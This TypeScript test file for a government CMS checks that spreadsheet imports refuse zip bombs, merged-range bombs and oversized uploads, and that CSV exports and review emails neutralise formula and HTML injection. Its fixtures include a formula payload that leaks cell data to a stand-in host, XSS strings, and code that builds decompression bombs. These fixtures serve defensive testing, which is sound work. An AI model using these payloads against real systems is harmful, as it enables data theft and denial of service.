import fs from 'fs';
import http from 'http';
import type { AddressInfo } from 'net';
import path from 'path';

import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';

import { adminJwtFor } from './helpers/auth';
import { startSmtp, type TestSmtp } from './helpers/smtp';
import { startApp, type TestApp } from './helpers/strapi';

/**
 * Files in and out (issue #10, items 6–8): uploads are bounded before they are parsed — a 7 KB XLSX
 * with one merged range over the whole sheet is refused in milliseconds, not grown to 4 GB; an
 * oversized upload gets 413 before the body parser stores it; too many rows get 400 with a message.
 * CSV exports neutralise formula cells (and import back unchanged). Review mails escape what people
 * wrote in their HTML part. Bad input never gets a 500.
 */
const ADMIN = { ADMIN_EMAIL: 'webmaster@example.gov.cn', ADMIN_PASSWORD: 'Webmaster2026' };
const OFFICER = 'officer.sthj@example.gov.cn';
const SECTION = 'reviewer.sthj@example.gov.cn';
const SECRECY = 'secrecy.sthj@example.gov.cn';
const WEBADMIN = 'webadmin@example.gov.cn';
const ARTICLE = 'api::article.article';
const TABLE = fs.readFileSync(path.resolve(__dirname, '..', 'database', 'seed', 'responsibility-table.csv'));
const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1;"点此查看")', '+1', '-1', '@SUM(A1:A9)'];

/** A small, valid table as XLSX, its first sheet's XML changed by `edit`. */
const xlsxWith = async (edit: (sheetXml: string) => string, extra: Record<string, string> = {}): Promise<Buffer> => {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('附件1');
  sheet.addRow(['一、走进双鸭山频道']);
  sheet.addRow(['一级栏目', '二级栏目', '主要发布内容', '保障方式', '保障时限', '保障单位']);
  sheet.addRow(['本市概况', '', '我市基本情况介绍', '信息报送', '每年7月30日前更新，并将信息发布时间调整为当年日期', '市政府办']);
  const zip = await JSZip.loadAsync(Buffer.from(await workbook.xlsx.writeBuffer()));
  const name = 'xl/worksheets/sheet1.xml';
  zip.file(name, edit(await zip.file(name)!.async('string')));
  for (const [file, content] of Object.entries(extra)) zip.file(file, content);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 } });
};
const withMerge = (ref: string) => (xml: string) =>
  xml.includes('<mergeCells') ? xml.replace(/<mergeCells[^>]*>/, `$&<mergeCell ref="${ref}"/>`) : xml.replace('</sheetData>', `</sheetData><mergeCells count="1"><mergeCell ref="${ref}"/></mergeCells>`);

describe('files in and out: bounded uploads, neutralised CSV, escaped mails', () => {
  let app: TestApp;
  let smtp: TestSmtp;
  const jwt: Record<string, string> = {};
  const statuses: number[] = [];

  beforeAll(async () => {
    smtp = await startSmtp();
    app = await startApp({ seed: true, env: { ...ADMIN, SMTP_HOST: '127.0.0.1', SMTP_PORT: String(smtp.port), SMTP_IGNORE_TLS: 'true' } });
    for (const email of [ADMIN.ADMIN_EMAIL, OFFICER, SECTION, SECRECY, WEBADMIN]) jwt[email] = await adminJwtFor(app.strapi, email);
  });
  afterAll(async () => {
    await app?.close();
    await smtp?.close();
  });
  afterEach(() => {
    // nothing in this file may answer 500
    expect(statuses.filter((status) => status >= 500)).toEqual([]);
  });

  const record = <T extends { status: number }>(response: T): T => {
    statuses.push(response.status);
    return response;
  };
  const upload = async (bytes: Buffer | string, dryRun = true, filename = 'table.csv') =>
    record(
      await app
        .http()
        .post(`/responsibility/import?dryRun=${dryRun}`)
        .set('Authorization', `Bearer ${jwt[ADMIN.ADMIN_EMAIL]}`)
        .attach('file', Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes, 'utf8'), filename),
    );
  const download = async (url: string, who = ADMIN.ADMIN_EMAIL) =>
    record(
      await app
        .http()
        .get(url)
        .set('Authorization', `Bearer ${jwt[who]}`)
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        }),
    );
  const assignmentCount = () => app.strapi.db.query('plugin::responsibility.assignment').count();

  /** An officer's new article in 环保专栏, submitted for review; its documentId. */
  const submittedArticle = async (title: string): Promise<string> => {
    const columnId = (await app.strapi.db.query('api::column.column').findOne({ where: { name: '环保专栏' } })).id;
    const unitId = (await app.strapi.db.query('api::unit.unit').findOne({ where: { name: '市生态环境局' } })).id;
    const created = record(
      await app
        .http()
        .post(`/content-manager/collection-types/${ARTICLE}`)
        .set('Authorization', `Bearer ${jwt[OFFICER]}`)
        .send({ title, body: '正文。', column: { connect: [{ id: columnId }] }, submittingUnit: { connect: [{ id: unitId }] }, infoType: 'text', importance: 'normal', isPolicyDocument: false, needsInterpretation: false }),
    );
    expect(created.status).toBe(201);
    const id: string = created.body.data.documentId;
    expect(record(await app.http().post(`/review/items/article/${id}/submit`).set('Authorization', `Bearer ${jwt[OFFICER]}`)).status).toBe(200);
    return id;
  };

  describe('the table import is bounded before it is parsed', () => {
    it('imports a normal XLSX and the real CSV table as before', async () => {
      const xlsx = await upload(await xlsxWith((xml) => xml), true, 'table.xlsx');
      expect(xlsx.status).toBe(200);
      expect(xlsx.body).toMatchObject({ ok: true, rows: 1 });
      const csv = await upload(TABLE);
      expect(csv.status).toBe(200);
      expect(csv.body).toMatchObject({ ok: true, rows: 93, assignments: { unchanged: 93 } });
    });

    it('refuses the 7 KB merged-range bomb (A3:XFD1048576) with 400 in well under a second, and keeps serving', async () => {
      const bomb = await xlsxWith(withMerge('A3:XFD1048576'));
      expect(bomb.length).toBeLessThan(10 * 1024);
      const started = Date.now();
      const [response, health] = await Promise.all([upload(bomb, true, 'bomb.xlsx'), app.http().get('/api/responsibility/health')]);
      const elapsed = Date.now() - started;
      expect(response.status).toBe(400);
      expect(response.body.error.message).toMatch(/^合并单元格 A3:XFD1048576 超出表格范围（[\d,]+ 个单元格），请取消该合并后重新导入。$/); // one language
      expect(response.body.error.details.problems).toEqual([{ line: 0, message: expect.stringContaining('A3:XFD1048576') }]);
      expect(elapsed).toBeLessThan(5000);
      expect(health.status).toBeLessThan(300);
      // and the commit is refused the same way, writing nothing
      const before = await assignmentCount();
      expect((await upload(bomb, false, 'bomb.xlsx')).status).toBe(400);
      expect(await assignmentCount()).toBe(before);
    });

    it('refuses a sheet that claims the whole grid, too many merges, or too many rows', async () => {
      const dimension = await upload(await xlsxWith((xml) => xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>')), true, 'd.xlsx');
      expect(dimension.status).toBe(400);
      expect(dimension.body.error.message).toMatch(/工作表范围 A1:XFD1048576 过大/);

      const merges = Array.from({ length: 2001 }, (_, i) => `<mergeCell ref="H${i + 1}:I${i + 1}"/>`).join('');
      const many = await upload(await xlsxWith((xml) => xml.replace('</sheetData>', `</sheetData><mergeCells count="2001">${merges}</mergeCells>`)), true, 'm.xlsx');
      expect(many.status).toBe(400);
      expect(many.body.error.message).toMatch(/合并单元格过多：共 2,001 处，最多 2,000 处/);

      const farRow = await upload(await xlsxWith((xml) => xml.replace('</sheetData>', '<row r="1000000"><c r="A1000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')), true, 'r.xlsx');
      expect(farRow.status).toBe(400);
      expect(farRow.body.error.message).toMatch(/表格行数过多：共 1,000,000 行，最多 5,000 行/);
    });

    it('refuses an XLSX that unpacks into too much (a zip bomb) and one that is no zip at all', async () => {
      const bomb = await xlsxWith((xml) => xml, { 'xl/padding.xml': `<x>${'a'.repeat(45 * 1024 * 1024)}</x>` });
      expect(bomb.length).toBeLessThan(200 * 1024);
      const started = Date.now();
      const response = await upload(bomb, true, 'zip.xlsx');
      expect(response.status).toBe(400);
      expect(response.body.error.message).toMatch(/XLSX 文件解压后过大（最大 40 MB）/);
      expect(Date.now() - started).toBeLessThan(5000);

      // the same bomb whose zip directory lies about the unpacked size: counted as it inflates, given up at the limit
      const liar = Buffer.from(bomb);
      const name = Buffer.from('xl/padding.xml');
      for (const [signature, sizeAt, nameAt] of [[0x04034b50, 22, 30], [0x02014b50, 24, 46]]) {
        for (let at = 0; at < liar.length - nameAt; at += 1) {
          if (liar.readUInt32LE(at) === signature && liar.subarray(at + nameAt, at + nameAt + name.length).equals(name)) liar.writeUInt32LE(1000, at + sizeAt);
        }
      }
      const lied = await upload(liar, true, 'liar.xlsx');
      expect(lied.status).toBe(400);
      expect(lied.body.error.message).toMatch(/XLSX 文件解压后过大/);

      const broken = Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(300, 7)]);
      const unreadable = await upload(broken, true, 'broken.xlsx');
      expect(unreadable.status).toBe(400);
      expect(unreadable.body.error.message).toMatch(/无法读取 XLSX 文件/);
    });

    it('refuses a CSV of more rows than allowed with 400 and a message saying how many', async () => {
      const header = 'channel,column,subcolumn,content,method,frequency,units\n';
      const rows = Array.from({ length: 5000 }, (_, i) => `政务公开,测试栏目,,内容${i},后台加载,每月,市政府办\n`).join('');
      const response = await upload(header + rows);
      expect(response.status).toBe(400);
      expect(response.body.error.message).toBe('导入文件有1处问题，未写入任何数据：表格行数过多：共 5,001 行，最多 5,000 行，请拆分后分批导入。');
    });

    it('refuses an oversized upload with 413 before it is stored (by its length, and counted when it has none)', async () => {
      const big = Buffer.alloc(3 * 1024 * 1024, 'a');
      const multipart = await upload(big);
      expect(multipart.status).toBe(413);
      expect(multipart.body.error.message).toBe('文件过大（最大 2 MB）。');

      // a chunked raw body (no Content-Length): counted as it streams, cut off at the limit
      const server = http.createServer(app.strapi.server.app.callback());
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      const chunked = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = http.request(
          { host: '127.0.0.1', port, agent: false, method: 'POST', path: '/responsibility/import?dryRun=true', headers: { Authorization: `Bearer ${jwt[ADMIN.ADMIN_EMAIL]}`, 'Content-Type': 'application/octet-stream', 'Transfer-Encoding': 'chunked' } },
          (res) => {
            let body = '';
            res.on('data', (c: Buffer) => (body += c.toString('utf8')));
            res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
          },
        );
        req.on('error', reject);
        const piece = Buffer.alloc(64 * 1024, 'b');
        let sent = 0;
        const write = () => {
          while (sent < 3 * 1024 * 1024) {
            sent += piece.length;
            if (!req.write(piece)) return void req.once('drain', write);
          }
          req.end();
        };
        write();
      }).finally(() => new Promise((resolve) => server.close(resolve)));
      statuses.push(chunked.status);
      expect(chunked.status).toBe(413);
      expect(JSON.parse(chunked.body).error.message).toContain('文件过大（最大 2 MB）');
    });

    it('answers a multipart upload that announces too many bytes before reading it (the body parser never waits for it)', async () => {
      const server = http.createServer(app.strapi.server.app.callback());
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      // 3 MB announced, 100 bytes sent, the request left open: only a refusal by the length can answer it
      const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
        const req = http.request(
          {
            host: '127.0.0.1',
            port,
            agent: false,
            method: 'POST',
            path: '/responsibility/import?dryRun=true',
            headers: { Authorization: `Bearer ${jwt[ADMIN.ADMIN_EMAIL]}`, 'Content-Type': 'multipart/form-data; boundary=x', 'Content-Length': String(3 * 1024 * 1024) },
          },
          (res) => {
            let body = '';
            res.on('data', (c: Buffer) => (body += c.toString('utf8')));
            res.on('end', () => {
              req.destroy();
              resolve({ status: res.statusCode ?? 0, body });
            });
          },
        );
        req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
        req.write(`--x\r\nContent-Disposition: form-data; name="file"; filename="t.csv"\r\n\r\n${'a'.repeat(30)}`);
      }).finally(() => new Promise((resolve) => server.close(resolve)));
      statuses.push(answer.status);
      expect(answer.status).toBe(413);
      expect(JSON.parse(answer.body).error.message).toBe('文件过大（最大 2 MB）。');
    });
  });

  describe('CSV exports neutralise formula cells', () => {
    it('the responsibility table: =, +, -, @ get a leading apostrophe, and the file imports back unchanged', async () => {
      const rows = FORMULAS.map((formula) => ['政务公开', '公式测试', '', formula, '后台加载', '每月', '市政府办']);
      rows.push(['政务公开', '@栏目', '', '正常内容', '后台加载', '每月', '市政府办']);
      const table = TABLE.toString('utf8') + stringify(rows, { record_delimiter: 'windows' });
      const commit = await upload(table, false);
      expect([commit.status, commit.body?.error?.message]).toEqual([200, undefined]);
      expect(commit.body.assignments.create).toHaveLength(5);

      const response = await download('/responsibility/export?format=csv');
      expect(response.status).toBe(200);
      const text = (response.body as Buffer).toString('utf8');
      const cells = (parse(text.replace(/^\uFEFF/, '')) as string[][]).flat();
      for (const formula of FORMULAS) {
        expect(cells).toContain(`'${formula}`);
        expect(cells).not.toContain(formula);
      }
      expect(cells).toContain("'@栏目");
      // no cell of the file starts with a formula character
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

      const back = await upload(response.body as Buffer, true);
      expect(back.status).toBe(200);
      expect(back.body.assignments).toMatchObject({ create: [], update: [] });
      expect(back.body.columns.create).toEqual([]);
      const stored = await app.strapi.db.query('plugin::responsibility.assignment').findMany({ where: { column: { name: '公式测试' } }, select: ['content'] });
      expect(stored.map((a: { content: string }) => a.content).sort()).toEqual([...FORMULAS].sort());

      // the XLSX export keeps them as text (no formula cells)
      const xlsx = await download('/responsibility/export?format=xlsx');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(xlsx.body as Buffer);
      const values: unknown[] = [];
      workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
      expect(values).toEqual(expect.arrayContaining(FORMULAS));
      expect(values.filter((v) => typeof v === 'object' && v !== null && 'formula' in v)).toEqual([]);
    });

    it('the review ledger (台账): titles starting with =, +, -, @ are neutralised', async () => {
      for (const title of FORMULAS) await submittedArticle(title);
      const today = new Date(Date.now() + 8 * 3600 * 1000).toISOString().slice(0, 10);
      const response = await download(`/review/ledger?from=${today}&to=${today}&format=csv`, WEBADMIN);
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toContain('text/csv');
      const records = parse((response.body as Buffer).toString('utf8').replace(/^\uFEFF/, '')) as string[][];
      const titles = records.slice(1).map((row) => row[1]);
      for (const formula of FORMULAS) expect(titles).toContain(`'${formula}`);
      expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    });
  });

  describe('review mails', () => {
    it('escape the title and the opinion in the HTML part; the text part stays plain', async () => {
      const title = '<script>alert("标题")</script>通知';
      const id = await submittedArticle(title);
      const opinion = '<img src=x onerror="alert(1)">请修改第二段';
      const rejected = record(
        await app.http().post(`/review/items/article/${id}/decisions`).set('Authorization', `Bearer ${jwt[SECTION]}`).send({ levelKey: 'section', decision: 'reject', opinion }),
      );
      expect(rejected.status).toBe(200);
      await (app.strapi.plugin('review').service('review') as { flush(): Promise<void> }).flush();

      const request = smtp.to(SECTION).find((m) => m.subject === `【待审核】${title}（初审）`);
      expect(request).toBeDefined();
      expect(request!.html).toContain('&lt;script&gt;alert(&quot;标题&quot;)&lt;/script&gt;通知');
      expect(request!.html).not.toContain('<script');
      expect(request!.text).toContain(`《${title}》`);

      const returned = smtp.to(OFFICER).find((m) => m.subject === `【退回修改】${title}`);
      expect(returned).toBeDefined();
      expect(returned!.html).toContain('审核意见：&lt;img src=x onerror=&quot;alert(1)&quot;&gt;请修改第二段');
      expect(returned!.html).not.toMatch(/<img|<script/);
      expect(returned!.text).toContain(`审核意见：${opinion}`);
    });
  });
});
